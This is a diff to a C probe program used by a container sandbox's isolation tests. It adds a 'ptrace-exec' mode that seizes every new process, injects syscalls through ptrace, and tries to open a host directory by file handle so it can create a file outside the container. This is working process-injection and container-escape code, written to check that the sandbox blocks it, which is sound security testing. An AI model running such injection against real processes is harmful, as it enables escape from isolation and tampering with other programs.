@@ -13,6 +13,9 @@
  *                                  MAJOR:MINOR and with a fifo by rename, in a tight loop until killed
  *   probe frames IFACE N MS HEX... send each HEX Ethernet frame out of IFACE (AF_PACKET, CAP_NET_RAW), N rounds
  *                                  MS apart (tests/test_network_isolation.py: loopback and spoofing attacks)
+ *   probe ptrace-exec SECONDS HANDLE  (x86_64) PTRACE_SEIZE every process that appears, report its status, and
+ *                                  make it open_by_handle_at HANDLE (hex struct file_handle of a host test dir)
+ *                                  and create a file there (see the ptrace-exec block below)
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -24,6 +27,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ioctl.h>
+#include <sys/mman.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
@@ -295,6 +299,144 @@ static int do_frames(const char *iface, int rounds, int ms, int n, char **hex) {
     return 0;
 }
 
+/* ---- ptrace-exec (tests/test_exec_stage.py) ----------------------------------------------------------------------
+ * Every process that appears in /proc is seized at once, stopped, and described ("victim PID comm=.. capeff=..
+ * seccomp=.. nnp=.."); then syscalls are injected into it (a syscall instruction written at its rip, single-stepped):
+ * mmap a scratch page, openat /etc/hosts (the container's bind of a file on the host's file system), open_by_handle_at
+ * of the host test directory HANDLE names, and openat O_CREAT of "ptrace-created" in it. Its text and registers are
+ * restored and it is let go. Stops after three victims that are not the container's programs, SECONDS, or /tmp/probe-stop. x86_64 only. */
+#if defined(__x86_64__)
+#include <sys/ptrace.h>
+#include <sys/user.h>
+
+static long px_call(int pid, const struct user_regs_struct *base, unsigned long at, long nr, long a1, long a2,
+                    long a3, long a4) {
+    struct user_regs_struct r = *base;
+    r.rip = at;
+    r.rax = nr;
+    r.orig_rax = -1; /* no syscall restart on the way back to user mode */
+    r.rdi = a1; r.rsi = a2; r.rdx = a3; r.r10 = a4; r.r8 = 0; r.r9 = 0;
+    if (ptrace(PTRACE_SETREGS, pid, 0, &r) < 0 || ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0) return -errno;
+    int st;
+    if (waitpid(pid, &st, __WALL) < 0) return -errno;
+    if (!WIFSTOPPED(st)) return -ESRCH;
+    if (ptrace(PTRACE_GETREGS, pid, 0, &r) < 0) return -errno;
+    return (long)r.rax;
+}
+
+static int px_poke(int pid, unsigned long at, const void *data, size_t n) {
+    for (size_t i = 0; i < n; i += sizeof(long)) {
+        long word = 0;
+        memcpy(&word, (const char *)data + i, n - i < sizeof(long) ? n - i : sizeof(long));
+        if (ptrace(PTRACE_POKEDATA, pid, at + i, word) < 0) return -1;
+    }
+    return 0;
+}
+
+static const char *px_res(long r) { return r < 0 ? err((int)-r) : "ok"; }
+
+static void px_status(int pid, char *out, size_t size) {
+    char path[64], line[256];
+    snprintf(path, sizeof path, "/proc/%d/status", pid);
+    FILE *f = fopen(path, "r");
+    out[0] = 0;
+    while (f && fgets(line, sizeof line, f)) {
+        char key[32], value[64];
+        if (sscanf(line, "%31[^:]:%63s", key, value) != 2) continue;
+        if (!strcmp(key, "CapEff") || !strcmp(key, "Seccomp") || !strcmp(key, "NoNewPrivs")) {
+            size_t used = strlen(out);
+            snprintf(out + used, size - used, " %s=%s", key, value);
+        }
+    }
+    if (f) fclose(f);
+}
+
+/* The attack on one stopped tracee; returns what each step got, on one line. */
+static void px_inject(int pid, const unsigned char *handle, size_t handle_len, char *out, size_t size) {
+    struct user_regs_struct saved;
+    if (ptrace(PTRACE_GETREGS, pid, 0, &saved) < 0) {
+        snprintf(out, size, " inject=%s", err(errno));
+        return;
+    }
+    unsigned long at = saved.rip;
+    errno = 0;
+    long text = ptrace(PTRACE_PEEKTEXT, pid, at, 0);
+    if (errno || ptrace(PTRACE_POKETEXT, pid, at, (text & ~0xffffL) | 0x050f) < 0) { /* syscall */
+        snprintf(out, size, " inject=%s", err(errno));
+        return;
+    }
+    long page = px_call(pid, &saved, at, SYS_mmap, 0, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS);
+    long hosts = -1, dir = -1, made = -1;
+    if (page < 0 && page > -4096L) {
+        snprintf(out, size, " mmap=%s", px_res(page));
+    } else if (px_poke(pid, page, "/etc/hosts", 11) < 0 || px_poke(pid, page + 64, handle, handle_len) < 0 ||
+               px_poke(pid, page + 1024, "ptrace-created", 15) < 0) {
+        snprintf(out, size, " poke=%s", err(errno));
+    } else {
+        hosts = px_call(pid, &saved, at, SYS_openat, AT_FDCWD, page, O_RDONLY | O_CLOEXEC, 0);
+        if (hosts >= 0) dir = px_call(pid, &saved, at, SYS_open_by_handle_at, hosts, page + 64,
+                                      O_RDONLY | O_DIRECTORY | O_CLOEXEC, 0);
+        if (dir >= 0) made = px_call(pid, &saved, at, SYS_openat, dir, page + 1024,
+                                     O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
+        snprintf(out, size, " hosts=%s handle=%s create=%s", px_res(hosts), hosts >= 0 ? px_res(dir) : "-",
+                 dir >= 0 ? px_res(made) : "-");
+        for (long fd = 0, fds[3] = {made, dir, hosts}; fd < 3; fd++)
+            if (fds[fd] >= 0) px_call(pid, &saved, at, SYS_close, fds[fd], 0, 0, 0);
+        px_call(pid, &saved, at, SYS_munmap, page, 4096, 0, 0);
+    }
+    ptrace(PTRACE_POKETEXT, pid, at, text);
+    ptrace(PTRACE_SETREGS, pid, 0, &saved);
+}
+
+static int do_ptrace_exec(int seconds, const char *hex) {
+    unsigned char handle[256];
+    size_t handle_len = strlen(hex) / 2;
+    if (handle_len == 0 || handle_len > sizeof handle) return 2;
+    for (size_t i = 0; i < handle_len; i++) sscanf(hex + 2 * i, "%2hhx", &handle[i]);
+    char own[160];
+    px_status(getpid(), own, sizeof own);
+    printf("own%s\n", own);
+    static char seen[1 << 16];
+    time_t end = time(NULL) + seconds;
+    int victims = 0;
+    while (victims < 3 && time(NULL) < end && access("/tmp/probe-stop", F_OK) != 0) {
+        DIR *d = opendir("/proc");
+        struct dirent *e;
+        while (d && (e = readdir(d))) {
+            int pid = atoi(e->d_name);
+            if (pid <= 1 || pid >= (int)sizeof seen || pid == getpid() || seen[pid]) continue;
+            seen[pid] = 1;
+            if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0) {
+                printf("missed %d seize=%s\n", pid, err(errno));
+                continue;
+            }
+            int st;
+            if (ptrace(PTRACE_INTERRUPT, pid, 0, 0) < 0 || waitpid(pid, &st, __WALL) < 0 || !WIFSTOPPED(st)) {
+                printf("missed %d stop=%s\n", pid, err(errno));
+                continue;
+            }
+            char comm[64] = "-", status[160], attack[160];
+            read_comm(pid, comm, sizeof comm);
+            px_status(pid, status, sizeof status);
+            px_inject(pid, handle, handle_len, attack, sizeof attack);
+            ptrace(PTRACE_DETACH, pid, 0, 0);
+            printf("victim %d comm=%s%s%s\n", pid, comm, status, attack);
+            victims += foreign(comm);
+        }
+        if (d) closedir(d);
+    }
+    printf("victims %d\n", victims);
+    return 0;
+}
+#else
+static int do_ptrace_exec(int seconds, const char *hex) {
+    (void)seconds; (void)hex;
+    printf("unsupported-arch\n");
+    return 2;
+}
+#endif
+/* ---- end of ptrace-exec ---- */
+
 int main(int argc, char **argv) {
     setvbuf(stdout, NULL, _IOLBF, 0);
     if (argc < 2) return 2;
@@ -305,5 +447,6 @@ int main(int argc, char **argv) {
     if (!strcmp(argv[1], "watch") && argc >= 4) return do_watch(atoi(argv[2]), argv[3]);
     if (!strcmp(argv[1], "swap") && argc >= 4) return do_swap(atoi(argv[2]), atoi(argv[3]));
     if (!strcmp(argv[1], "frames") && argc >= 6) return do_frames(argv[2], atoi(argv[3]), atoi(argv[4]), argc - 5, argv + 5);
+    if (!strcmp(argv[1], "ptrace-exec") && argc >= 4) return do_ptrace_exec(atoi(argv[2]), argv[3]);
     return 2;
 }
